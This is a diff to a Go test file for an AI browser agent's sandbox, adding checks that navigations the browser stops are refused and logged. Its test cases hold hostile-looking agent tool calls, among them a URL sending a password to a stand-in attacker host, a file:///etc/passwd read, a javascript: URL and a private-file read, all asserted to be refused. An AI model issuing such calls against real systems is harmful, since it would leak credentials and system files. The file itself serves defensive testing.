@@ -17,6 +17,7 @@ import (
 // windows is a browser of several tabs, whose page opens more when a key is pressed.
 type windows struct {
 	*site
+	stops []string      // where it did not let its page go
 	tabs  []browser.Tab // the last is in front, but for those behind
 	opens []browser.Tab
 }
@@ -65,6 +66,26 @@ func (w *windows) CloseTab(ctx context.Context, id browser.TabID) error {
 	return nil
 }
 
+func (w *windows) KeepTo(permits func(string) bool) browser.Bounds {
+	return stopping{w, permits}
+}
+
+// stopping are bounds of a page that goes somewhere when a key is pressed.
+type stopping struct {
+	*windows
+	permits func(string) bool
+}
+
+func (s stopping) Stopped() (all []string) {
+	if !slices.Contains(s.calls, "press Enter") {
+		return nil
+	}
+	all, s.stops = slices.DeleteFunc(s.stops, s.permits), nil
+	return all
+}
+
+func (s stopping) Release() { s.log("release") }
+
 // refusals keeps what a task refuses.
 type refusals []string
 
@@ -86,6 +107,7 @@ func TestWhateverLeadsElsewhereIsRecorded(t *testing.T) {
 		why, call string
 		opens     []browser.Tab
 		before    []browser.Tab
+		stops     []string
 		refused   refusals
 		action    string // the kind that is refused, and its target
 		done      []string
@@ -93,7 +115,8 @@ func TestWhateverLeadsElsewhereIsRecorded(t *testing.T) {
 		{why: "an address", call: `navigate {"url":"https://evil.example/?password=x"}`,
 			refused: refusals{"web.visit evil.example agent.host_not_allowed"}, action: "navigate https://evil.example/"},
 		{why: "a tab", call: `open_tab {"url":"https://evil.example:8443/"}`,
-			refused: refusals{"web.visit evil.example:8443 agent.host_not_allowed"}, action: "open_tab https://evil.example:8443/"},
+			refused: refusals{"web.visit evil.example:8443 agent.host_not_allowed"},
+			action:  "open_tab https://evil.example:8443/"},
 		{why: "a file", call: `navigate {"url":"file:///etc/passwd"}`,
 			refused: refusals{"web.visit file: agent.address_refused"}, action: "navigate file:///etc/passwd"},
 		{why: "a script", call: `open_tab {"url":"javascript:alert(1)"}`,
@@ -109,13 +132,16 @@ func TestWhateverLeadsElsewhereIsRecorded(t *testing.T) {
 		{why: "one behind a popup that is allowed", call: press, opens: []browser.Tab{behind, good},
 			refused: refusals{"web.visit evil.example agent.host_not_allowed"}, action: "leave https://evil.example/behind",
 			done: []string{"press Enter", "close tab t3"}},
+		{why: "a page that the browser stops", call: press, stops: []string{"https://evil.example/go?x=1", hostsHome + "x"},
+			refused: refusals{"web.visit evil.example agent.host_not_allowed"}, action: "leave https://evil.example/go",
+			done: []string{"press Enter"}},
 		{why: "somebody else's tab", call: `switch_tab {"tab":"t3"}`, before: []browser.Tab{behind},
 			refused: refusals{"web.visit evil.example agent.host_not_allowed"}, action: "switch_tab https://evil.example"},
 		{why: "a file that no page has delivered", call: `read_page {"file":"private/notes.txt"}`,
 			refused: refusals{"storage.get private/notes.txt agent.file_not_delivered"}, action: "read_page private/notes.txt"},
 	} {
 		t.Run(c.why, func(t *testing.T) {
-			w := &windows{site: newSite("login"), opens: c.opens,
+			w := &windows{site: newSite("login"), opens: c.opens, stops: c.stops,
 				tabs: append([]browser.Tab{{ID: "t1", URL: hostsHome, Active: true}}, c.before...)}
 			chat := &asked{answer: func(n int, _ model.Request) (*model.Response, error) {
 				if tool, args, _ := strings.Cut(c.call, " "); n == 0 {
@@ -131,7 +157,7 @@ func TestWhateverLeadsElsewhereIsRecorded(t *testing.T) {
 			}, 0)
 			require.NoError(t, err)
 			require.Equal(t, c.refused, got)
-			require.Equal(t, c.done, w.calls, "nothing else is done")
+			require.Equal(t, append(c.done, "release"), w.calls, "nothing else is done")
 			last := result.Actions[len(result.Actions)-1]
 			require.Equal(t, c.action, last.Kind+" "+last.Target)
 			_, code, _ := strings.Cut(c.refused[0][strings.Index(c.refused[0], " ")+1:], " ")
